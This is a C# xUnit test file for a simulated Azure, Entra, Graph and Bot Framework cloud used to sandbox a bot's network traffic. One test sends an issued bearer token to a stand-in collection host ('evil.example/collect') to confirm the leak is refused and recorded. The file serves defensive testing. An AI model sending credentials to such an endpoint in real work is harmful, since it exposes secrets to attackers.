using System.Diagnostics;
using System.Security.Authentication;
using Azure.Core;
using Azure.Core.Pipeline;
using Azure.Identity;

namespace RunModes.Bot.Tests.Support.Wire;

public sealed class FakeCloudTests
{
    [Theory]
    [InlineData("https://login.microsoftonline.com/common/discovery/instance?api-version=1.1", 200)]
    [InlineData("https://login.botframework.com/v1/.well-known/openidconfiguration", 200)]
    [InlineData($"https://management.azure.com/subscriptions/{Known.Subscription}/resourceGroups/prod/providers/Microsoft.Web/sites/app?api-version=2023-12-01", 401)]
    [InlineData("https://graph.microsoft.com/v1.0/users/x", 401)]
    [InlineData("https://smba.trafficmanager.net/teams/v3/conversations", 401)]
    public async Task Every_host_is_reached_under_its_own_address_and_a_call_without_token_is_refused(string url, int status)
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        using var caller = new WireCaller(cloud);
        Assert.Equal(status, (await caller.Send(HttpMethod.Get, url)).Status);
        cloud.AssertNothingUnexpected();
    }

    [Theory]
    [InlineData("https://example.com/anything")]
    [InlineData("https://login.microsoftonline.com/nobody/knows")]
    public async Task An_unknown_host_or_path_is_answered_599_and_fails_the_test(string url)
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        using var caller = new WireCaller(cloud);
        Assert.Equal(599, (await caller.Send(HttpMethod.Get, url)).Status);
        Assert.Equal($"GET {url}", Assert.Single(cloud.Unexpected));
        Assert.ThrowsAny<Exception>(cloud.AssertNothingUnexpected);
    }

    [Theory]
    [InlineData("http://example.com/")]
    [InlineData("https://example.com:8443/")]
    [InlineData("https://10.1.2.3/")]
    public async Task Plain_http_other_ports_and_bare_addresses_do_not_get_out(string url)
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        using var client = new HttpClient(cloud.CreateHandler());
        try
        {
            using var response = await client.GetAsync(new Uri(url), TestContext.Current.CancellationToken);
            Assert.Equal(502, (int)response.StatusCode);
        }
        catch (HttpRequestException refused)
        {
            Assert.Equal(HttpRequestError.ProxyTunnelError, refused.HttpRequestError);
        }

        Assert.Single(cloud.Unexpected);
    }

    [Fact]
    public async Task Nobody_trusts_the_cloud_without_being_told_to()
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        var handler = cloud.CreateHandler();
        handler.SslOptions.CertificateChainPolicy = null;
        using var client = new HttpClient(handler);
        var refused = await Assert.ThrowsAsync<HttpRequestException>(
            () => client.GetAsync(new Uri("https://graph.microsoft.com/v1.0/users/x"), TestContext.Current.CancellationToken));
        Assert.IsType<AuthenticationException>(refused.InnerException);
    }

    [Fact]
    public async Task One_cloud_is_not_trusted_by_a_client_of_another()
    {
        await using var one = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        await using var other = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        var handler = one.CreateHandler();
        handler.Proxy = new System.Net.WebProxy(other.ProxyAddress);
        using var client = new HttpClient(handler);
        await Assert.ThrowsAsync<HttpRequestException>(
            () => client.GetAsync(new Uri("https://graph.microsoft.com/v1.0/users/x"), TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task A_child_process_reaches_the_cloud_by_its_environment()
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        Assert.SkipUnless(File.Exists("/usr/bin/curl"), "curl is not installed: an independent client that honours HTTPS_PROXY and SSL_CERT_FILE is needed.");
        var start = new ProcessStartInfo("/usr/bin/curl") { RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var (name, value) in cloud.Environment) start.Environment[name] = value;
        foreach (var argument in new[] { "-sS", "https://login.botframework.com/v1/.well-known/keys" })
            start.ArgumentList.Add(argument);
        using var process = Process.Start(start)!;
        var output = await process.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        Assert.Empty(await process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken));
        await process.WaitForExitAsync(TestContext.Current.CancellationToken);
        Assert.Contains("\"endorsements\":[\"msteams\"", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Azure_Identity_fetches_a_token_that_only_its_own_host_accepts()
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        cloud.Entra.Client(Known.AgentClientId, Known.AgentSecret);
        cloud.Arm.App("app-service-prod", rg: "prod");
        using var client = new HttpClient(cloud.CreateHandler());
        var credential = new ClientSecretCredential(Known.Tenant, Known.AgentClientId, Known.AgentSecret,
            new ClientSecretCredentialOptions { DisableInstanceDiscovery = true, Transport = new HttpClientTransport(client) });
        var token = await credential.GetTokenAsync(new TokenRequestContext(["https://management.azure.com/.default"]), TestContext.Current.CancellationToken);
        using var caller = new WireCaller(cloud);

        var url = $"https://management.azure.com/subscriptions/{Known.Subscription}/resourceGroups/prod/providers/Microsoft.Web/sites/app-service-prod?api-version=2023-12-01";
        Assert.Equal(200, (await caller.Send(HttpMethod.Get, url, token.Token)).Status);
        cloud.AssertNothingUnexpected();

        Assert.Equal(401, (await caller.Send(HttpMethod.Get, "https://graph.microsoft.com/v1.0/users/x", token.Token)).Status);
        Assert.Equal(599, (await caller.Send(HttpMethod.Get, "https://evil.example/collect", token.Token)).Status);
        Assert.Equal(2, cloud.Entra.Leaks.Count);
        Assert.ThrowsAny<Exception>(cloud.AssertNothingUnexpected);
    }

    [Fact]
    public async Task Entra_refuses_a_wrong_secret_and_a_revoked_token()
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        cloud.Entra.Client(Known.AgentClientId, Known.AgentSecret);
        using var client = new HttpClient(cloud.CreateHandler());
        var credential = new ClientSecretCredential(Known.Tenant, Known.AgentClientId, "wrong",
            new ClientSecretCredentialOptions { DisableInstanceDiscovery = true, Transport = new HttpClientTransport(client), Retry = { MaxRetries = 0 } });
        await Assert.ThrowsAsync<AuthenticationFailedException>(
            async () => await credential.GetTokenAsync(new TokenRequestContext(["https://management.azure.com/.default"]), TestContext.Current.CancellationToken));

        using var caller = new WireCaller(cloud);
        var token = cloud.Entra.Issue(Known.AgentClientId, "https://graph.microsoft.com/.default");
        cloud.Entra.Revoke();
        Assert.Equal(401, (await caller.Send(HttpMethod.Get, "https://graph.microsoft.com/v1.0/users/x", token)).Status);
    }

    [Fact]
    public async Task Scripted_faults_come_once_each_and_in_order()
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        cloud.Graph.Directory.Person(Known.AppId, "Ada");
        cloud.Graph.Faults.Next(Fault.Throttled("2.128"));
        cloud.Graph.Faults.Next(Fault.Garbage);
        using var caller = new WireCaller(cloud);
        Task<(int Status, System.Text.Json.Nodes.JsonNode? Body, HttpResponseMessage Raw)> Ask() => caller.Graph(HttpMethod.Get, $"/users/{Known.AppId}");

        var throttled = await Ask();
        Assert.Equal((429, "2.128"), (throttled.Status, throttled.Raw.Headers.NonValidated["Retry-After"].ToString()));
        Assert.Null((await Ask()).Body);
        cloud.Graph.Faults.Always(Fault.Drop);
        await Assert.ThrowsAsync<HttpRequestException>(Ask);
        cloud.Graph.Faults.Clear();
        cloud.Graph.Faults.Next(Fault.Truncated);
        await Assert.ThrowsAnyAsync<System.Text.Json.JsonException>(Ask);
        Assert.Equal("Ada", (await Ask()).Body!["displayName"]!.GetValue<string>());
    }

    [Fact]
    public async Task A_hanging_call_ends_when_the_caller_gives_up_and_a_held_one_when_the_test_lets_go()
    {
        await using var cloud = await FakeCloud.Start(cancellation: TestContext.Current.CancellationToken);
        cloud.Graph.Directory.Person(Known.AppId, "Ada");
        var arrived = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        cloud.Graph.Faults.Next(Fault.Hang, request => request.Method == "GET" && arrived.TrySetResult());
        var release = new TaskCompletionSource();
        cloud.Graph.Faults.Next(Fault.HeldUntil(release.Task));
        using var client = new HttpClient(cloud.CreateHandler());
        client.DefaultRequestHeaders.Authorization = new("Bearer", cloud.Entra.Issue(Known.AppId, "https://graph.microsoft.com/.default"));
        using var patience = CancellationTokenSource.CreateLinkedTokenSource(TestContext.Current.CancellationToken);
        var hanging = client.GetAsync(new Uri($"https://graph.microsoft.com/v1.0/users/{Known.AppId}"), patience.Token);
        await arrived.Task.WaitAsync(TestContext.Current.CancellationToken);
        await patience.CancelAsync();
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => hanging);

        using var caller = new WireCaller(cloud);
        var held = caller.Graph(HttpMethod.Get, $"/users/{Known.AppId}");
        Assert.False(held.IsCompleted);
        release.SetResult();
        Assert.Equal(200, (await held).Status);
    }
}
